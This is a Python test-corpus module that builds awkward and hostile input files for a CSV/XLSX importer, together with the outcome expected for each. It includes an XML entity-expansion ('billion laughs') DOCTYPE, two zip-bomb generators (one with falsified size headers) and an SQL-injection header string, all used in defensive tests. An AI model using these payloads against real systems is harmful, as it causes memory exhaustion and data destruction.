"""A corpus of bad or awkward files, written in code, each with the outcome the importer must give.

Every case is either REFUSED (`error` is set: a CxError subclass whose message names the file and contains
`words`, with the workspace left exactly as it was) or LOADED (exact rows read / loaded / rejected, the
exact line and column of every reject, and the loaded values read back from the database). The runner is
`tests/test_ingest_corpus.py`; `python -m tests.corpus DIR` writes the files out to look at them.
"""

from __future__ import annotations

import codecs
import datetime as dt
import io
import json
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from xml.sax.saxutils import escape

from cx.errors import CxError, FileRefused, MappingError

D = dt.datetime
E_HEADER = "event_time,visitor_id,event_name,page"
EVENTS_Q = "select event_time, visitor_id, event_name, page from events where import_id = $id order by rowid"
ORDERS_Q = "select customer_id, order_time, amount from orders where import_id = $id order by rowid"
NBSP, NNBSP = "\u00a0", "\u202f"


@dataclass(frozen=True)
class Case:
    """One awkward file and what must happen to it.

    rejects: ((line, column, words in the reason), …) exactly, in file order.
    rows: the result of `query` (bound with $id = the new import id), exactly; a callable builds it lazily.
    check: extra assertions, called as check(cursor, report, case) after the generic ones.
    before: called as before(ws, path, case) on the preloaded workspace, before the snapshot.
    """

    name: str
    build: Callable[[], bytes]
    file_name: str = "data.csv"
    import_name: str | None = None  # the name given to import_file (default: file_name)
    kwargs: dict = field(default_factory=dict)
    error: type[CxError] | None = None
    words: tuple[str, ...] = ()
    status: str = "loaded"
    kind: str | None = None
    read: int = 0
    loaded: int = 0
    rejected: int = 0
    rejects: tuple = ()
    query: str | None = None
    rows: list | Callable[[], list] | None = None
    encoding: str | None = None
    delimiter: str | None = None
    sheet: str | None = None
    mapping: dict | None = None
    check: Callable | None = None
    before: Callable | None = None
    xfail: str | None = None
    timeout: int = 120
    bomb: bool = False  # the runner also checks that the process's peak memory did not jump

    @property
    def name_given(self) -> str:
        return self.import_name or self.file_name

    def expected_rows(self) -> list:
        return self.rows() if callable(self.rows) else list(self.rows or [])


def text(s: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: s.encode(encoding)


def refused(name: str, build, *words: str, error=FileRefused, file_name="data.csv", **kw) -> Case:
    return Case(name, build, file_name=file_name, error=error, words=words, **kw)


# ------------------------------------------------------------------------------------------- builders


def xlsx_bytes(sheets: dict[str, list[list]], doctype: str = "", raw_cells: bool = False) -> bytes:
    """A minimal XLSX written by hand, so that formulas can carry cached values (openpyxl cannot write
    them) and sheet XML can hold anything (an entity bomb). A cell is None (empty), a str (inline string),
    a number, or (formula, cached value)."""
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    names = list(sheets)
    parts = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
        '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
        'main+xml"/>'
        + "".join(
            f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" ContentType="application/vnd.'
            f'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            for i in range(len(names))
        )
        + "</Types>",
        "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{ns}" xmlns:r="{rel}"><sheets>'
        + "".join(
            f'<sheet name="{escape(n, {chr(34): "&quot;"})}" sheetId="{i + 1}" r:id="rId{i + 1}"/>'
            for i, n in enumerate(names)
        )
        + "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        'package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i + 1}" Type="{rel}/worksheet" Target="worksheets/sheet{i + 1}.xml"/>'
            for i in range(len(names))
        )
        + "</Relationships>",
    }
    for i, n in enumerate(names):
        rows = []
        for r, values in enumerate(sheets[n], start=1):
            cells = []
            for j, v in enumerate(values):
                ref = f"{chr(65 + j)}{r}"
                if v is None:
                    continue
                if isinstance(v, tuple):
                    formula, cached = v
                    kind = ' t="str"' if isinstance(cached, str) else ""
                    cells.append(f'<c r="{ref}"{kind}><f>{escape(formula)}</f><v>{escape(str(cached))}</v></c>')
                elif isinstance(v, str):
                    body = v if raw_cells else escape(v)
                    cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{body}</t></is></c>')
                else:
                    cells.append(f'<c r="{ref}"><v>{v}</v></c>')
            if cells:
                rows.append(f'<row r="{r}">' + "".join(cells) + "</row>")
        parts[f"xl/worksheets/sheet{i + 1}.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
            f'<worksheet xmlns="{ns}"><sheetData>' + "".join(rows) + "</sheetData></worksheet>"
        )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for part, body in parts.items():
            z.writestr(part, body.encode("utf-8"))
    return buf.getvalue()


def openpyxl_bytes(sheets: dict[str, list[list]]) -> bytes:
    """A workbook as Excel users make them (real date cells, floats), written by openpyxl."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1 if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)


def zip_bomb() -> bytes:
    """A zip that claims to be a workbook (xl/workbook.xml is there) with a 300 MB part of zeros that
    packs into a few hundred KB."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            block = b"\0" * (1 << 20)
            for _ in range(300):
                part.write(block)
    return buf.getvalue()


def png() -> bytes:
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\0" + b"\xff\x00\x00" * 4 for _ in range(4))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] "
        b"/Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


def random_binary() -> bytes:
    return random.Random(20251231).randbytes(64 * 1024)


def gzip_csv() -> bytes:
    import gzip

    return gzip.compress((E_HEADER + "\n2025-03-01 10:00:00,v1,page_view,/a\n").encode())


def zip_of_csv() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("events.csv", E_HEADER + "\n2025-03-01 10:00:00,v1,page_view,/a\n")
    return buf.getvalue()


def encrypted_xlsx() -> bytes:
    """What Excel writes for a password-protected workbook: an OLE compound file (EncryptedPackage)."""
    header = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + bytes.fromhex("3E000300FEFF0900")
    return header + random.Random(7).randbytes(8192)


def lying_zip_bomb() -> bytes:
    """A real workbook whose sheet part inflates to 300 MB while its headers claim 5 KB (so the size
    check passes): the zip reader must stop at the claimed size, never inflate the rest."""
    import struct

    src = zipfile.ZipFile(io.BytesIO(openpyxl_bytes({"Data": ORDERS_SHEET})))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                with z.open(info.filename, "w") as part:
                    part.write(data[:-30])
                    for _ in range(300):
                        part.write(b" " * (1 << 20))
            else:
                z.writestr(info.filename, data)
    out = bytearray(buf.getvalue())
    info = zipfile.ZipFile(io.BytesIO(bytes(out))).getinfo("xl/worksheets/sheet1.xml")
    struct.pack_into("<I", out, info.header_offset + 22, 5000)  # local header: uncompressed size
    pos = out.find(b"PK\x01\x02")
    while pos >= 0:  # central directory: uncompressed size of the sheet's entry
        length = struct.unpack_from("<H", out, pos + 28)[0]
        if bytes(out[pos + 46 : pos + 46 + length]) == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", out, pos + 24, 5000)
        pos = out.find(b"PK\x01\x02", pos + 4)
    return bytes(out)


def damaged_sheet_xml() -> bytes:
    """A workbook that opens (its workbook part is fine) but whose sheet XML is cut in the middle."""
    src = zipfile.ZipFile(io.BytesIO(openpyxl_bytes({"Data": ORDERS_SHEET})))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            z.writestr(info.filename, data[: len(data) // 2] if info.filename.endswith("sheet1.xml") else data)
    return buf.getvalue()


LONG_TEXT = ("Livraison en retard, colis abîmé; « service client » injoignable. " * 3200).strip()  # ~210 KB


def long_field() -> bytes:
    return (
        E_HEADER + "\n"
        "2025-03-01 10:00:00,v1,page_view,/a\n"
        f'2025-03-01 10:01:00,v2,avis,"{LONG_TEXT}"\n'
        "2025-03-01 10:02:00,v3\n"
        "hier,v4,click,/d\n"
    ).encode()


def over_8mb_line() -> bytes:
    return (
        E_HEADER
        + "\n2025-03-01 10:00:00,v1,page_view,/a\n"
        + "2025-03-01 10:01:00,v2,page_view,/"
        + "x" * (9 * 1024 * 1024)
        + "\n"
        + "2025-03-01 10:02:00,v3,click,/c\nhier,v4,click,/d\n"
    ).encode()


N_MANY = 2600


def many_rejects() -> bytes:
    """Every other row is bad: more rejects than a report lists (1,000), all of them in `rejects`."""
    rows = [E_HEADER] + [f"{'2025-03-01 10:00:00' if i % 2 == 0 else 'jamais'},v{i},click,/p{i}" for i in range(N_MANY)]
    return ("\n".join(rows) + "\n").encode()


# ------------------------------------------------------------------------------------------- big files

N_BIG = 20_010
BAD_UTF8_ROW = 20_005  # 0-based data row; file line = row + 2


def _bad_utf8_rows() -> list[tuple]:
    return [(D(2025, 3, 1, 10, 0), f"v{i}", "vue_fiche", f"/café/crème-{i}") for i in range(N_BIG) if i != BAD_UTF8_ROW]


def bad_utf8_late() -> bytes:
    """UTF-8 with accents on every line; after 20,000 lines one line holds a Latin-1 é (0xE9)."""
    lines = [E_HEADER.encode()]
    for i in range(N_BIG):
        line = f"2025-03-01 10:00:00,v{i},vue_fiche,/café/crème-{i}".encode()
        if i == BAD_UTF8_ROW:
            line = line.replace("café".encode(), b"caf\xe9")
        lines.append(line)
    return b"\n".join(lines) + b"\n"


CP1252_LATE = "/Noël, œuvre à 5 € — l’été «déjà» naïf"


def _cp1252_rows() -> list[tuple]:
    return [
        (D(2025, 3, 1, 10, 0), f"v{i}", "page_view", CP1252_LATE if i == 20_003 else f"/page/{i}") for i in range(N_BIG)
    ]


def cp1252_late() -> bytes:
    """A Windows-1252 file, plain ASCII for 20,004 lines, then œ € ’ « » (bytes 0x80–0x9F and above)."""
    out = [E_HEADER]
    for t, v, e, p in _cp1252_rows():
        out.append(f"{t:%Y-%m-%d %H:%M:%S},{v},{e},{chr(34) + p + chr(34) if ',' in p else p}")
    return ("\r\n".join(out) + "\r\n").encode("cp1252")


# ------------------------------------------------------------------------------------------- checks


def check_properties(expected: list[dict]):
    def check(cur, report, case):
        got = [
            json.loads(r[0]) if r[0] is not None else None
            for r in cur.execute(
                "select properties from events where import_id = $id order by rowid", {"id": report.import_id}
            ).fetchall()
        ]
        assert got == expected

    return check


def check_mapping_and_properties(mapping: dict, expected: list[dict]):
    props = check_properties(expected)

    def check(cur, report, case):
        assert report.mapping == mapping
        props(cur, report, case)

    return check


def check_no_cr(cur, report, case):
    headers = cur.execute("select mapping from imports where import_id = $id", {"id": report.import_id}).fetchone()
    assert "\ufeff" not in headers[0] and "\\ufeff" not in headers[0]
    for row in cur.execute("select * from events where import_id = $id", {"id": report.import_id}).fetchall():
        assert not any(isinstance(v, str) and ("\r" in v or "\ufeff" in v) for v in row), row


def preload_same(ws, path, case):
    """Import the very same bytes first (the duplicate cases)."""
    from cx.ingest import import_file

    first = import_file(ws, path, case.name_given)
    assert first.status == "loaded" and first.rows_loaded == 2


def check_replaced(cur, report, case):
    same = cur.execute(
        "select import_id, rows_loaded, status from imports where file_name = $n order by import_id",
        {"n": case.name_given},
    ).fetchall()
    assert same == [(report.import_id, 2, "loaded")], same  # the first import is gone, with its rows
    assert cur.execute("select count(*) from events where visitor_id in ('dup1', 'dup2')").fetchone()[0] == 2


def check_kept(cur, report, case):
    same = cur.execute(
        "select rows_loaded from imports where file_name = $n order by import_id", {"n": case.name_given}
    ).fetchall()
    assert same == [(2,), (2,)]
    assert cur.execute("select count(*) from events where visitor_id in ('dup1', 'dup2')").fetchone()[0] == 4


def check_literal_name(cur, report, case):
    row = cur.execute("select file_name from imports where import_id = $id", {"id": report.import_id}).fetchone()
    assert row[0] == case.name_given
    assert report.file == case.name_given
    # the preloaded events are still there (the name was not run as SQL)
    assert cur.execute("select count(*) from events where import_id <> $id", {"id": report.import_id}).fetchone()[0] > 0


def check_responses_scales(cur, report, case):
    rows = cur.execute(
        "select distinct csat_scale, ces_scale, ces_higher_is_better from responses where import_id = $id",
        {"id": report.import_id},
    ).fetchall()
    assert rows == [(None, None, None)]


# ------------------------------------------------------------------------------------------- the corpus

DUP = E_HEADER + "\n2025-03-01 10:00:00,dup1,page_view,/a\n2025-03-01 10:01:00,dup2,click,/b\n"

ORDERS_SHEET = [
    ["N° client", "Date de commande", "Montant TTC", "Statut"],
    ["C001", D(2025, 12, 31, 9, 30), 1234.56, "livrée"],
    ["C002", D(2025, 1, 2), 12, "annulée"],
    [None, None, None, None],
    ["C003", D(2025, 6, 15, 18, 5, 7), "n/a", "livrée"],
    ["C004", "2025-07-01", -3.5, None],
]
NOTES_SHEET = [
    ["Export CRM — Maison Lumen"],
    ["Généré le 2026-01-05 par l'outil d'export"],
    [],
    ["Les montants sont TTC, en euros."],
]


def _orders_sheet_rows():
    return [
        ("C001", D(2025, 12, 31, 9, 30), 1234.56, "livrée"),
        ("C002", D(2025, 1, 2), 12.0, "annulée"),
        ("C004", D(2025, 7, 1), -3.5, None),
    ]


ORDERS_STATUS_Q = "select customer_id, order_time, amount, status from orders where import_id = $id order by rowid"

CASES: list[Case] = [
    # ---- empty and nearly empty
    refused("empty_file_0_bytes", lambda: b"", "empty", "export"),
    refused("whitespace_only", text("  \r\n\t\n   \n\n"), "empty", "export"),
    refused("bom_only", lambda: codecs.BOM_UTF8 + b"\r\n", "empty"),
    Case(
        "header_only_csv",
        text(E_HEADER + "\n"),
        kind="events",
        read=0,
        loaded=0,
        rejected=0,
        query=EVENTS_Q,
        rows=[],
        encoding="utf-8",
        delimiter=",",
    ),
    # ---- structure
    Case(
        "ragged_rows_short_and_long",
        text(
            E_HEADER + "\n"
            "2025-03-01 10:00:00,v1,page_view,/a\n"
            "2025-03-01 10:01:00,v2,page_view\n"
            "2025-03-01 10:02:00,v3,click,/b,surplus\n"
            "2025-03-01 10:03:00,v4,click,/c\n"
            "2025-03-01 10:04:00\n"
        ),
        kind="events",
        read=5,
        loaded=2,
        rejected=3,
        rejects=((3, "page", "fewer fields"), (4, "", "more fields"), (6, "visitor_id", "fewer fields")),
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a"), (D(2025, 3, 1, 10, 3), "v4", "click", "/c")],
    ),
    Case(
        "unterminated_quote",
        text(
            E_HEADER + "\n"
            "2025-03-01 10:00:00,v1,page_view,/a\n"
            '2025-03-01 10:01:00,v2,"page_view,/b\n'
            "2025-03-01 10:02:00,v3,click,/c\n"
        ),
        kind="events",
        read=2,
        loaded=1,
        rejected=1,
        rejects=((3, "event_name", "never closed"),),
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a")],
    ),
    Case(
        "quoted_fields_with_embedded_newlines",
        text(
            E_HEADER + "\n"  # 1
            '2025-03-01 10:00:00,v1,page_view,"/a\n'  # 2
            "suite\n"  # 3
            'fin"\n'  # 4
            '2025-03-01 10:01:00,v2,click,"x ""cité"" y"\n'  # 5
            "2025-03-01 10:02:00,v3,click\n"  # 6 short
            '2025-03-01 10:03:00,v4,"multi\n'  # 7
            'line event",/c\n'  # 8
            "pas une date,v5,click,/d\n"  # 9 bad date
            "2025-03-01 10:05:00,v6,click,/e\n"
        ),  # 10
        kind="events",
        read=6,
        loaded=4,
        rejected=2,
        rejects=((6, "page", "fewer fields"), (9, "event_time", "not a date")),
        query=EVENTS_Q,
        rows=[
            (D(2025, 3, 1, 10, 0), "v1", "page_view", "/a\nsuite\nfin"),
            (D(2025, 3, 1, 10, 1), "v2", "click", 'x "cité" y'),
            (D(2025, 3, 1, 10, 3), "v4", "multi\nline event", "/c"),
            (D(2025, 3, 1, 10, 5), "v6", "click", "/e"),
        ],
    ),
    Case(
        "crlf_with_embedded_crlf_newlines",
        text(
            E_HEADER + "\r\n"  # 1
            '2025-03-01 10:00:00,v1,page_view,"/a\r\nb"\r\n'  # 2-3
            "2025-03-01 10:01:00,v2\r\n"  # 4 short
            "31/02/2025,v3,click,/c\r\n"  # 5 impossible date
            "2025-03-01 10:03:00,v4,click,/d\r\n"
        ),  # 6
        kind="events",
        read=4,
        loaded=2,
        rejected=2,
        rejects=((4, "event_name", "fewer fields"), (5, "event_time", "not a date")),
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a\r\nb"), (D(2025, 3, 1, 10, 3), "v4", "click", "/d")],
    ),
    Case(
        "blank_lines_in_the_middle",
        text(
            E_HEADER + "\n"  # 1
            "2025-03-01 10:00:00,v1,page_view,/a\n"  # 2
            "\n"  # 3
            "\n"  # 4
            "2025-03-01 10:01:00,v2,click,/b\n"  # 5
            "\n"  # 6
            "2025-13-01 10:02:00,v3,click,/c\n"  # 7 bad month
            "2025-03-01 10:03:00,v4\n"  # 8 short
            "2025-03-01 10:04:00,v5,click,/e\n"  # 9
            "\n"
        ),
        kind="events",
        read=5,
        loaded=3,
        rejected=2,
        rejects=((7, "event_time", "not a date"), (8, "event_name", "fewer fields")),
        query=EVENTS_Q,
        rows=[
            (D(2025, 3, 1, 10, 0), "v1", "page_view", "/a"),
            (D(2025, 3, 1, 10, 1), "v2", "click", "/b"),
            (D(2025, 3, 1, 10, 4), "v5", "click", "/e"),
        ],
    ),
    Case(
        "old_mac_cr_line_endings",
        text(
            E_HEADER + "\r"
            "2025-03-01 10:00:00,v1,page_view,/a\r"
            "2025-03-01 10:01:00,v2,click,/b\r"
            "hier,v3,click,/c\r"
            "2025-03-01 10:03:00,v4,click,/d\r"
        ),
        kind="events",
        read=4,
        loaded=3,
        rejected=1,
        rejects=((4, "event_time", "not a date"),),
        query=EVENTS_Q,
        rows=[
            (D(2025, 3, 1, 10, 0), "v1", "page_view", "/a"),
            (D(2025, 3, 1, 10, 1), "v2", "click", "/b"),
            (D(2025, 3, 1, 10, 3), "v4", "click", "/d"),
        ],
    ),
    Case(
        "no_newline_at_end_of_file",
        text(E_HEADER + "\n2025-03-01 10:00:00,v1,page_view,/a\n2025-03-01 10:01:00,v2,click,/b"),
        kind="events",
        read=2,
        loaded=2,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a"), (D(2025, 3, 1, 10, 1), "v2", "click", "/b")],
    ),
    Case(
        "excel_sep_hint_first_line",
        text(
            "sep=;\r\n"
            "event_time;visitor_id;event_name;page\r\n"
            "2025-03-01 10:00:00;v1;page_view;/a,b\r\n"
            "2025-03-01 10:01:00;v2;click\r\n"
            "2025-03-01 10:02:00;v3;click;/c\r\n"
        ),
        kind="events",
        read=3,
        loaded=2,
        rejected=1,
        delimiter=";",
        rejects=((4, "page", "fewer fields"),),
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a,b"), (D(2025, 3, 1, 10, 2), "v3", "click", "/c")],
    ),
    Case(
        "single_column_file_with_blank_line",
        text("customer_id\nC1\n\nC2\n  \nC3\n"),
        kind="customers",
        read=3,
        loaded=3,
        query="select customer_id from customers where import_id = $id order by rowid",
        rows=[("C1",), ("C2",), ("C3",)],
    ),
    Case(
        "trailing_delimiter_on_every_row",
        text(E_HEADER + ",\n2025-03-01 10:00:00,v1,page_view,/a,\n2025-03-01 10:01:00,v2,click,/b,\n"),
        kind="events",
        read=2,
        loaded=2,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a"), (D(2025, 3, 1, 10, 1), "v2", "click", "/b")],
        check=check_properties([{"column_5": None}, {"column_5": None}]),
    ),
    refused(
        "too_many_columns",
        text(",".join(f"col{i}" for i in range(2001)) + "\n" + ",".join("1" * 2001)),
        "2001 columns",
        "fewer columns",
    ),
    # ---- headers
    Case(
        "duplicate_headers",
        text("event_time,visitor_id,event_name,page,page,Page\n2025-03-01 10:00:00,v1,page_view,/a,/b,/c\n"),
        kind="events",
        read=1,
        loaded=1,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a")],
        check=check_properties([{"page (2)": "/b", "Page (3)": "/c"}]),
    ),
    Case(
        "blank_headers",
        text(
            "event_time,,visitor_id,event_name,\n2025-03-01 10:00:00,x1,v1,click,y1\n2025-03-01 10:01:00,,v2,click,\n"
        ),
        kind="events",
        read=2,
        loaded=2,
        query="select event_time, visitor_id, event_name from events where import_id = $id order by rowid",
        rows=[(D(2025, 3, 1, 10, 0), "v1", "click"), (D(2025, 3, 1, 10, 1), "v2", "click")],
        check=check_properties([{"column_2": "x1", "column_5": "y1"}, {"column_2": None, "column_5": None}]),
    ),
    Case(
        "unicode_and_emoji_headers",
        text("Horodatage,Visiteur 🧑‍💻,Événement,Page 📄,Humeur ✨\n2025-03-01 10:00:00,v1,clic 👍,/ça-va,😀\n"),
        kind="events",
        read=1,
        loaded=1,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "clic 👍", "/ça-va")],
        check=check_mapping_and_properties(
            {"Horodatage": "event_time", "Visiteur 🧑‍💻": "visitor_id", "Événement": "event_name", "Page 📄": "page"},
            [{"Humeur ✨": "😀"}],
        ),
    ),
    Case(
        "headers_with_quotes_and_sql",
        text(
            'event_time,visitor_id,event_name,"note\'); drop table events;--","say ""hi"""\n'
            "2025-03-01 10:00:00,v1,click,x',y\n"
        ),
        kind="events",
        read=1,
        loaded=1,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "click", None)],
        check=check_properties([{"note'); drop table events;--": "x'", 'say "hi"': "y"}]),
    ),
    Case(
        "headers_match_nothing",
        text("foo,bar,baz\n1,2,3\n"),
        error=MappingError,
        words=("cannot tell", "foo", "choose its kind"),
    ),
    Case(
        "mapping_names_missing_required_column",
        text(E_HEADER + "\n2025-03-01 10:00:00,v1,click,/a\n"),
        kwargs={"kind": "events", "mapping": {"event_time": "event_time", "visitor_id": "visitor_id"}},
        error=MappingError,
        words=("required", "event_name", "mapping"),
    ),
    Case(
        "mapping_names_a_header_the_file_lacks",
        text(E_HEADER + "\n2025-03-01 10:00:00,v1,click,/a\n"),
        kwargs={
            "kind": "events",
            "mapping": {"event_time": "event_time", "visitor_id": "visitor_id", "nom": "event_name"},
        },
        error=MappingError,
        words=("no column 'nom'", "mapping"),
    ),
    Case(
        "unknown_kind",
        text(E_HEADER + "\n2025-03-01 10:00:00,v1,click,/a\n"),
        kwargs={"kind": "sessions"},
        error=MappingError,
        words=("unknown kind", "events"),
    ),
    # ---- encodings
    Case(
        "invalid_utf8_after_20000_lines",
        bad_utf8_late,
        kind="events",
        encoding="utf-8",
        read=N_BIG,
        loaded=N_BIG - 1,
        rejected=1,
        rejects=((BAD_UTF8_ROW + 2, "page", "not valid text"),),
        query="select event_time, visitor_id, event_name, page from events where import_id = $id order by rowid",
        rows=_bad_utf8_rows,
    ),
    Case(
        "cp1252_first_accent_after_20000_lines",
        cp1252_late,
        kind="events",
        encoding="cp1252",
        read=N_BIG,
        loaded=N_BIG,
        query=EVENTS_Q,
        rows=_cp1252_rows,
    ),
    Case(
        "cp1252_uppercase_accent_before_nbsp",
        lambda: (
            "N° client;Date de commande;Montant TTC;Statut\r\n"
            "C001;01/03/2025;10,50;très bien reçu\r\n"
            "C002;02/03/2025;8,00;déjà payé\r\n"
            f"C003;03/03/2025;7,00;LIVRÉ{NBSP}: À L’HEURE\r\n"
        ).encode("cp1252"),  # É NBSP: C9 A0, valid UTF-8
        kind="orders",
        encoding="cp1252",
        delimiter=";",
        read=3,
        loaded=3,
        query=ORDERS_STATUS_Q,
        rows=[
            ("C001", D(2025, 3, 1), 10.5, "très bien reçu"),
            ("C002", D(2025, 3, 2), 8.0, "déjà payé"),
            ("C003", D(2025, 3, 3), 7.0, f"LIVRÉ{NBSP}: À L’HEURE"),
        ],
    ),
    refused(
        "cp1252_with_undefined_byte_0x81",
        lambda: (
            ("event_time,visitor_id,event_name,page\n2025-03-01 10:00:00,v1,clic,/été\n").encode("cp1252")
            + b"2025-03-01 10:01:00,v2,clic,/\x81\n"
        ),
        "0x81",
        "line 3",
        "utf-8",
    ),
    Case(
        "utf8_bom_and_crlf",
        text(
            "\ufeffevent_time,visitor_id,event_name,page\r\n"
            "2025-03-01 10:00:00,v1,page_view,/é\r\n"
            "2025-03-01 10:01:00,v2,click,/b\r\n"
            "2025-02-30 10:02:00,v3,click,/c\r\n"
        ),
        kind="events",
        encoding="utf-8-sig",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((4, "event_time", "not a date"),),
        mapping={h: h for h in E_HEADER.split(",")},
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/é"), (D(2025, 3, 1, 10, 1), "v2", "click", "/b")],
        check=check_no_cr,
    ),
    Case(
        "utf16_le_with_bom",
        lambda: (
            codecs.BOM_UTF16_LE
            + (
                E_HEADER + "\r\n2025-03-01 10:00:00,v1,page_view,/été\r\n2025-03-01 10:01:00,v2,clic,/Noël €\r\n"
                "demain,v3,clic,/x\r\n"
            ).encode("utf-16-le")
        ),
        kind="events",
        encoding="utf-16",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((4, "event_time", "not a date"),),
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/été"), (D(2025, 3, 1, 10, 1), "v2", "clic", "/Noël €")],
        check=check_no_cr,
    ),
    Case(
        "utf16_le_without_bom",
        lambda: (E_HEADER + "\n2025-03-01 10:00:00,v1,page_view,/été\n2025-03-01 10:01:00,v2,clic,/ŒUVRE ✓\n").encode(
            "utf-16-le"
        ),
        kind="events",
        encoding="utf-16-le",
        read=2,
        loaded=2,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/été"), (D(2025, 3, 1, 10, 1), "v2", "clic", "/ŒUVRE ✓")],
    ),
    Case(
        "utf16_be_with_bom",
        lambda: codecs.BOM_UTF16_BE + (E_HEADER + "\n2025-03-01 10:00:00,v1,page_view,/été\n").encode("utf-16-be"),
        kind="events",
        encoding="utf-16",
        read=1,
        loaded=1,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/été")],
    ),
    Case(
        "french_excel_cp1252_semicolon_crlf",
        lambda: (
            "N° client;Date de commande;Montant TTC;Statut\r\n"
            f"C001;31/12/2025 09:30;1{NBSP}234,56 €;livrée\r\n"
            "C002;02/01/2025;12,50 €;annulée\r\n"
            "C003;15/06/2025;douze €;livrée\r\n"
        ).encode("cp1252"),
        kind="orders",
        encoding="cp1252",
        delimiter=";",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((4, "Montant TTC", "not a number"),),
        query=ORDERS_STATUS_Q,
        rows=[("C001", D(2025, 12, 31, 9, 30), 1234.56, "livrée"), ("C002", D(2025, 1, 2), 12.5, "annulée")],
    ),
    # ---- dialects and number / date formats
    Case(
        "semicolon_decimal_comma_nbsp_thousands",
        text(
            "N° client;Date de commande;Montant TTC;N° commande\n"
            f"C001;31/12/2025;1{NBSP}234,56{NBSP}€;A-1\n"
            "C002;01/12/2025;12,5;A-2\n"
            f"C003;15/11/2025;1{NNBSP}000{NNBSP}000,00 €;A-3\n"
            "C004;02/01/2026;-3,10;A-4\n"
            "C005;03/01/2026;douze;A-5\n"
        ),
        kind="orders",
        delimiter=";",
        read=5,
        loaded=4,
        rejected=1,
        rejects=((6, "Montant TTC", "not a number"),),
        query="select customer_id, order_time, amount, order_id from orders where import_id = $id order by rowid",
        rows=[
            ("C001", D(2025, 12, 31), 1234.56, "A-1"),
            ("C002", D(2025, 12, 1), 12.5, "A-2"),
            ("C003", D(2025, 11, 15), 1000000.0, "A-3"),
            ("C004", D(2026, 1, 2), -3.1, "A-4"),
        ],
    ),
    Case(
        "mixed_decimal_marks_in_one_column",
        text(
            "customer_id;order_date;amount\n"
            "C1;2025-04-01;12.50\n"
            "C2;2025-04-02;1,234.50\n"
